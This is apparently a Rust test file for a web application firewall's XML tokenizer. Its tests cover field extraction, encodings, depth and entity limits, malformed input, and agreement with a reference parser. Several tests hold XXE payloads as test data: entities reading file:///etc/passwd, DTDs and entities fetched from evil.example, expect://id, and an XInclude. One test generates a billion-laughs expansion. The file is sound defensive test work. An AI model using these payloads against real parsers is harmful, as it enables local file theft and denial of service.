//! The tokenizer against documents whose reading is known, and against a reference reader.
#![allow(clippy::unwrap_used, reason = "tests")]

use proptest::prelude::*;

use crate::body::Completeness;
use crate::body::tests::{Said, leaves, read, read_with, values};
use crate::bounds::Bounds;
use crate::field::Place;
use waf_shared::catalog::Leaf;

const MALFORMED: Leaf = Leaf::HttpComplianceMalformedBody;
const ENTITIES: Leaf = Leaf::XmlParsingEntityExpansion;

fn fields(document: &str) -> Vec<(String, String)> {
    let said = read("application/xml", document.as_bytes());
    assert_eq!(leaves(&said), [], "{document}");
    said.into_iter()
        .filter_map(|one| match one {
            Said::Field(Place::Xml, name, value) => Some((name, value)),
            _ => None,
        })
        .collect()
}

#[test]
fn text_and_attributes_are_fields() {
    let all = fields(
        "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<!-- note -->\n<a x='1' y = \"&lt;2&gt;\">one <b>&amp; two</b> three<c/><![CDATA[<four>]]></a>\n",
    );
    let expected = [
        ("", " note "),
        ("a@x", "1"),
        ("a@y", "<2>"),
        ("a", "one "),
        ("a/b", "& two"),
        ("a", " three"),
        ("a", "<four>"),
    ];
    let expected: Vec<(String, String)> =
        expected.iter().map(|(name, value)| ((*name).to_owned(), (*value).to_owned())).collect();
    assert_eq!(all, expected);
}

#[test]
fn nothing_hides_between_sections_comments_and_references() {
    for document in [
        "<a><![CDATA[<scr]]><![CDATA[ipt>]]></a>",
        "<a>&lt;scr<!-- x -->ipt&gt;</a>",
        "<a>&#60;scr&#x69;pt&#62;</a>",
        "<a><![CDATA[<]]>script<![CDATA[>]]></a>",
        "<!DOCTYPE a [<!ENTITY x '<scr'><!ENTITY y '&x;ipt>'>]><a>&y;</a>",
        "<!DOCTYPE a [<!ENTITY x '&#60;scr'>]><a>&x;ipt></a>",
        "<a b='&#60;script>'/>",
    ] {
        let said = read("text/xml", document.as_bytes());
        assert!(values(&said, Place::Xml).contains(&"<script>"), "{document}: {said:?}");
        assert_eq!(leaves(&said), [], "{document}");
    }
}

#[test]
fn encodings_are_read_as_they_are_written() {
    let wide = |text: &str, to: fn(u16) -> [u8; 2]| -> Vec<u8> { text.encode_utf16().flat_map(to).collect() };
    let document = "<?xml version=\"1.0\" encoding=\"utf-16\"?><a>é</a>";
    let big = wide(document, u16::to_be_bytes);
    let little = [&b"\xff\xfe"[..], &wide(document, u16::to_le_bytes)].concat();
    let latin = b"<?xml version=\"1.0\" encoding=\"ISO-8859-1\"?><a>\xe9</a>";
    // Some programs write UTF-16 into the declaration of what they send as UTF-8.
    for bytes in [&big[..], &little, latin, document.as_bytes(), b"\xef\xbb\xbf<a>\xc3\xa9</a>"] {
        let said = read("text/xml", bytes);
        assert_eq!(
            (values(&said, Place::Xml), leaves(&said)),
            (vec!["é"], vec![]),
            "{}",
            bytes.escape_ascii()
        );
    }
    for bytes in [
        &b"<?xml version=\"1.0\" encoding=\"utf-7\"?><a>+ADw-</a>"[..],
        b"<?xml version=\"1.0\" encoding=\"ibm037\"?><a/>",
        b"\x4c\x6f\xa7\x94\x93",
        b"<a>\xff</a>",
        b"\x00\x00\xfe\xff\x00\x00\x00<",
    ] {
        assert!(leaves(&read("text/xml", bytes)).contains(&MALFORMED), "{}", bytes.escape_ascii());
    }
}

#[test]
fn external_entities_are_refused_wherever_they_stand() {
    for document in [
        "<!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><a>&x;</a>",
        "<!DOCTYPE a [<!ENTITY x PUBLIC \"-//x\" 'http://evil.example/'>]><a>&x;</a>",
        "<!DOCTYPE a [<!ENTITY % x SYSTEM 'http://evil.example/x.dtd'> %x;]><a/>",
        "<!DOCTYPE a [<!ENTITY % x '<!ENTITY y \"z\">'> %x;]><a>z</a>",
        "<!DOCTYPE a SYSTEM \"http://evil.example/x.dtd\"><a/>",
        "<!DOCTYPE a PUBLIC '-//W3C//DTD XHTML 1.0//EN' 'http://evil.example/x.dtd'><a/>",
        "<!DOCTYPE a SYSTEM 'file:///etc/passwd'><a/>",
        "<!DOCTYPE a [<!ENTITY x SYSTEM 'expect://id' NDATA n>]><a/>",
        "<a xmlns:xi='http://www.w3.org/2001/XInclude'><xi:include parse='text' href='file:///etc/passwd'/></a>",
    ] {
        assert_eq!(leaves(&read("text/xml", document.as_bytes())), [ENTITIES], "{document}");
    }
    for document in [
        "<!DOCTYPE html PUBLIC \"-//W3C//DTD XHTML 1.0 Strict//EN\" \"http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd\"><html>&nbsp;</html>",
        "<!DOCTYPE plist PUBLIC \"-//Apple//DTD PLIST 1.0//EN\" \"http://www.apple.com/DTDs/PropertyList-1.0.dtd\"><plist/>",
        "<!DOCTYPE note SYSTEM \"note.dtd\"><note/>",
        "<!DOCTYPE a [<!ELEMENT a (#PCDATA)><!-- x --><?y z?><!ATTLIST a b CDATA #IMPLIED>]><a b='c'/>",
    ] {
        assert_eq!(leaves(&read("text/xml", document.as_bytes())), [], "{document}");
    }
}

#[test]
fn entities_are_counted_declared_and_expanded() {
    let declared = |count: usize| {
        let all: Vec<String> = (0..count).map(|n| format!("<!ENTITY e{n} 'x'>")).collect();
        format!("<!DOCTYPE a [{}]><a/>", all.concat())
    };
    let expanded = |count: usize| format!("<!DOCTYPE a [<!ENTITY e 'x'>]><a>{}</a>", "&e;".repeat(count));
    for build in [&declared as &dyn Fn(usize) -> String, &expanded] {
        assert_eq!(leaves(&read("text/xml", build(100).as_bytes())), []);
        assert_eq!(leaves(&read("text/xml", build(101).as_bytes())), [ENTITIES]);
    }
    let levels: Vec<String> =
        (1..10).map(|n| format!("<!ENTITY l{n} '{}'>", format!("&l{};", n - 1).repeat(10))).collect();
    let laughs = format!("<!DOCTYPE a [<!ENTITY l0 'ha'>{}]><a>&l9;</a>", levels.concat());
    assert_eq!(leaves(&read("text/xml", laughs.as_bytes())), [ENTITIES]);
    let none = Bounds { xml_entities: 0, ..Bounds::DEFAULT };
    let said =
        |document: &str| leaves(&read_with(&none, "text/xml", &[document.as_bytes()], Completeness::Whole));
    assert_eq!(said("<a>&amp;&#65;&lt;</a>"), []);
    assert_eq!(said("<!DOCTYPE a [<!ENTITY e 'x'>]><a/>"), [ENTITIES]);
}

#[test]
fn depth_is_counted_and_ends() {
    let nested = |depth: usize| "<a>".repeat(depth) + &"</a>".repeat(depth);
    assert_eq!(leaves(&read("text/xml", nested(20).as_bytes())), []);
    assert_eq!(leaves(&read("text/xml", nested(21).as_bytes())), [Leaf::XmlParsingMaxDepth]);
    let big = Bounds { max_inspect_size: 10 << 20, ..Bounds::DEFAULT };
    let said = read_with(&big, "text/xml", &[nested(100_000).as_bytes()], Completeness::Whole);
    assert_eq!(leaves(&said), [Leaf::XmlParsingMaxDepth, MALFORMED]);
}

#[test]
fn what_readers_see_differently_is_malformed() {
    for document in [
        "<a>",
        "<a></b>",
        "<a/><b/>",
        "<a/>text",
        "text<a/>",
        "<a b=1/>",
        "<a b='1' b='2'/>",
        "<a b='1'c='2'/>",
        "<a b='<'/>",
        "<a>&nope;</a>",
        "<a> & </a>",
        "<a>&#0;</a>",
        "<a>\u{1}</a>",
        "<a><!-- -- --></a>",
        "<a><![CDATA[x</a>",
        "<![CDATA[x]]>",
        "<!DOCTYPE a><!DOCTYPE a><a/>",
        "<a/><!DOCTYPE a>",
        "<a><!DOCTYPE a></a>",
        "<a",
        "<a b",
        "<",
        "< a/>",
        "</a>",
        "<a></ a>",
        "<!doctype a><a/>",
        "   ",
        "<!DOCTYPE a [<!ENTITY x>]><a/>",
        "<!DOCTYPE a [junk]><a/>",
    ] {
        assert_eq!(leaves(&read("text/xml", document.as_bytes())), [MALFORMED], "{document}");
    }
    assert_eq!(read("text/xml", b""), []);
}

#[test]
fn what_follows_a_fault_is_judged_as_text() {
    let said = read("text/xml", b"<a>x</b><c>later</c>");
    assert_eq!(values(&said, Place::Body), ["<c>later</c>"]);
    let said = read_with(&Bounds::DEFAULT, "text/xml", &[b"<a>x<b c='half"], Completeness::CutOff);
    assert_eq!((values(&said, Place::Xml), leaves(&said)), (vec!["x", "half"], vec![]));
}

/// Text and attribute values as the reference sees them.
fn reference(document: &str) -> Option<Vec<String>> {
    use quick_xml::events::Event;
    let mut reader = quick_xml::Reader::from_str(document);
    let (mut out, mut held) = (Vec::new(), String::new());
    let attributes = |start: &quick_xml::events::BytesStart<'_>, out: &mut Vec<String>| -> Option<()> {
        for attribute in start.attributes() {
            let raw = attribute.ok()?.value.into_owned();
            out.push(quick_xml::escape::unescape(std::str::from_utf8(&raw).ok()?).ok()?.into_owned());
        }
        Some(())
    };
    loop {
        let event = reader.read_event().ok()?;
        let ends_text = matches!(event, Event::Start(_) | Event::End(_) | Event::Empty(_) | Event::Eof);
        if ends_text && !held.trim_ascii().is_empty() {
            out.push(std::mem::take(&mut held));
        } else if ends_text {
            held.clear();
        }
        match event {
            Event::Start(start) | Event::Empty(start) => attributes(&start, &mut out)?,
            Event::Text(text) => held += std::str::from_utf8(&text).ok()?,
            Event::CData(text) => held += std::str::from_utf8(&text).ok()?,
            Event::GeneralRef(name) => {
                let name = format!("&{};", std::str::from_utf8(&name).ok()?);
                held += &quick_xml::escape::unescape(&name).ok()?;
            }
            Event::Eof => return Some(out),
            _ => {}
        }
    }
}

/// Well-formed documents of one element and what stands in it.
fn documents() -> impl Strategy<Value = String> {
    let text = prop_oneof![
        "[ a-zé\n]{1,6}".prop_map(|text| text),
        Just("&lt;&#65;&amp;".to_owned()),
        Just("<![CDATA[<x>]&]]>".to_owned()),
        Just("<e/>".to_owned()),
    ];
    let node = text.prop_recursive(4, 24, 4, |inner| {
        (prop::sample::select(&["b", "ns:c", "d-e"][..]), "[a-z&;']{0,1}", prop::collection::vec(inner, 0..4))
            .prop_map(|(name, value, inside)| {
                let value = value.replace('&', "&amp;").replace('\'', "&apos;");
                format!("<{name} x='{value}' y=\"z\">{}</{name}>", inside.concat())
            })
    });
    prop::collection::vec(node, 0..4).prop_map(|inside| format!("<root>{}</root>", inside.concat()))
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 400, failure_persistence: None, ..ProptestConfig::default() })]

    #[test]
    fn it_agrees_with_the_reference(document in documents()) {
        let said = read("text/xml", document.as_bytes());
        prop_assert_eq!(leaves(&said), [], "{}", document);
        prop_assert_eq!(values(&said, Place::Xml), reference(&document).unwrap(), "{}", document);
    }
}
